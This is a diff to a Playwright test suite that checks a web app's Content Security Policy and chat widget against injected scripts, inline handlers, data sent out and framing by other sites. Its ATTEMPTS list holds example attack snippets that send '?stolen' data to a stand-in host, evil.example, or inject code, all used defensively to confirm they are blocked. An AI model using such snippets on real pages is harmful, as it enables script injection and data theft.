@@ -3,6 +3,10 @@
 `open_page` fails a test for every complaint of the console and every request elsewhere.
 """
 
+from collections.abc import Iterator
+from dataclasses import dataclass
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from threading import Thread
 from typing import Any
 
 import pytest
@@ -27,42 +31,63 @@ window.violations = [];
 document.addEventListener("securitypolicyviolation",
     event => window.violations.push(`${event.violatedDirective}: ${event.blockedURI}`));
 """
-# What an attacker would have a page do, and the directive that stops it.
-ATTEMPTS = {
-    "script-src-elem": """() => {
+# What an attacker would have a page do, and the directive that stops it: code out of
+# text does not even reach the ones about scripts.
+ATTEMPTS = [
+    (
+        "require-trusted-types-for",
+        """() => {
         const script = document.createElement("script");
         script.textContent = "window.ran = true";
         document.body.append(script);
     }""",
-    "script-src-attr": """() => {
+    ),
+    (
+        "require-trusted-types-for",
+        """() => {
         const button = document.createElement("button");
         button.setAttribute("onclick", "window.ran = true");
         document.body.append(button);
         button.click();
     }""",
-    "img-src": """() => {
+    ),
+    (
+        "img-src",
+        """() => {
         const image = document.createElement("img");
         image.src = "https://evil.example/?stolen";
         document.body.append(image);
     }""",
-    "connect-src": """() => fetch("https://evil.example/?stolen").catch(() => 0)""",
-    "style-src-attr": """() => document.body.setAttribute("style", "display: none")""",
-    "form-action": """() => {
+    ),
+    ("connect-src", """() => fetch("https://evil.example/?stolen").catch(() => 0)"""),
+    (
+        "style-src-attr",
+        """() => document.body.setAttribute("style", "display: none")""",
+    ),
+    (
+        "form-action",
+        """() => {
         const form = document.createElement("form");
         form.action = "https://evil.example/";
         document.body.append(form);
         form.submit();
     }""",
-    "base-uri": """() => {
+    ),
+    (
+        "base-uri",
+        """() => {
         const base = document.createElement("base");
         base.href = "https://evil.example/";
         document.head.append(base);
     }""",
-    "require-trusted-types-for": """() => {
-        try { document.createElement("script").src = "/static/js/keys.js"; }
-        catch (error) { return error.name; }
+    ),
+    (
+        "require-trusted-types-for",
+        """() => {
+        document.createElement("script").src = "/static/js/keys.js";
     }""",
-}
+    ),
+]
 
 
 @pytest.fixture
@@ -76,13 +101,50 @@ def cast(desk: Tenant, ada: User, carla: User, elena: Customer) -> dict[str, Any
         tool = HttpTool.objects.create(
             tenant=desk, name="orders", parameters={}, url="https://shop.example/"
         )
-        Tenant.objects.update(widget_sites=["https://linden.example"])
     return {
         "conversation": make_conversation(elena, "Hello").id,
         "customer": elena.id,
         "tool": tool.pk,
         "token": sign_customer(desk, elena.external_id, elena.name),
     }
+
+
+@dataclass
+class Shops:
+    """Two sites with the same page: the desk has named one of them."""
+
+    own: str = ""
+    other: str = ""
+    html: str = ""
+
+
+@pytest.fixture
+def shops(desk: Tenant) -> Iterator[Shops]:
+    it = Shops()
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(it.html.encode())
+
+        def log_message(self, *args: object) -> None:
+            """Keep the test output quiet."""
+
+    servers = [ThreadingHTTPServer(("127.0.0.1", 0), Handler) for _ in range(2)]
+    threads = [Thread(target=one.serve_forever, args=(0.02,)) for one in servers]
+    for thread in threads:
+        thread.start()
+    it.own, it.other = (f"http://127.0.0.1:{one.server_address[1]}" for one in servers)
+    with tenant_scope(desk.id):
+        Tenant.objects.update(widget_sites=[it.own])
+    yield it
+    for one in servers:
+        one.shutdown()
+        one.server_close()
+    for thread in threads:
+        thread.join()
 
 
 def watched(page: Page) -> Page:
@@ -120,26 +182,30 @@ def test_no_page_breaks_the_policy_or_asks_another_origin(
     assert visitor.page.evaluate("window.violations") == []
 
 
-def test_what_an_attacker_would_have_a_page_do_is_stopped(
-    cast: dict[str, Any], browser: Browser, stack: Stack
+def test_foreign_code_requests_and_frames_are_stopped(
+    cast: dict[str, Any], shops: Shops, browser: Browser, stack: Stack
 ) -> None:
+    page = watched(browser.new_page(base_url=stack.base_url))
+    what_an_attacker_would_have_a_page_do_is_stopped(page)
+    the_widget_sets_no_html_at_all(page)
+    shops.html = f'<iframe src="{stack.base_url}/widget/linden/"></iframe>'
+    the_widget_shows_on_the_desks_own_site_and_on_no_other(page, shops)
+
+
+def what_an_attacker_would_have_a_page_do_is_stopped(page: Page) -> None:
     for url in ("/accounts/login/", "/widget/linden/"):
-        for directive, attempt in ATTEMPTS.items():
-            page = watched(browser.new_page(base_url=stack.base_url))
+        for directive, attempt in ATTEMPTS:
             page.goto(url)
-            page.evaluate(attempt)
+            here = page.url
+            page.evaluate(f"() => {{ try {{ ({attempt})() }} catch {{}} }}")
             page.wait_for_function("window.violations.length > 0")
             found = page.evaluate("window.violations.join()")
             assert directive in found, f"{url} {directive}: {found}"
             assert page.evaluate("window.ran") is None
-            assert page.url.startswith(stack.base_url)
-            page.close()
+            assert page.url == here
 
 
-def test_the_widget_sets_no_html_at_all(
-    cast: dict[str, Any], browser: Browser, stack: Stack
-) -> None:
-    page = browser.new_page(base_url=stack.base_url)
+def the_widget_sets_no_html_at_all(page: Page) -> None:
     page.goto("/widget/linden/")
     for attempt in (
         "document.body.innerHTML = '<b>x</b>'",
@@ -150,29 +216,14 @@ def test_the_widget_sets_no_html_at_all(
         assert page.evaluate(refused) == "TypeError", attempt
 
 
-def test_the_widget_shows_on_the_desks_own_site_and_on_no_other(
-    cast: dict[str, Any], browser: Browser, stack: Stack
+def the_widget_shows_on_the_desks_own_site_and_on_no_other(
+    page: Page, shops: Shops
 ) -> None:
-    context = browser.new_context()
-    page = context.new_page()
-    html = f'<iframe src="{stack.base_url}/widget/linden/"></iframe>'
-    for site in (
-        "https://evil.example/",
-        "https://linden.example.evil.example/",
-        "https://sub.linden.example/",
-        "https://linden.example:8443/",
-        "https://linden.example/",
-    ):
-        page.route(
-            f"{site}**",
-            lambda route: route.fulfill(body=html, content_type="text/html"),
-        )
-        page.goto(site)
-        hello = page.frame_locator("iframe").locator("#hello")
-        if site == "https://linden.example/":
-            expect(hello).to_be_visible()
-        else:
-            page.wait_for_load_state("networkidle")
-            expect(hello).to_have_count(0)
-            assert page.frames[1].url.startswith("chrome-error:"), site
-    context.close()
+    hello = page.frame_locator("iframe").locator("#hello")
+    page.goto(shops.own)
+    expect(hello).to_be_visible()
+    for other in (shops.other, shops.own.replace("127.0.0.1", "localhost")):
+        page.goto(other)
+        page.wait_for_load_state("networkidle")
+        expect(hello).to_have_count(0)
+        assert page.frames[1].url.startswith("chrome-error:"), other
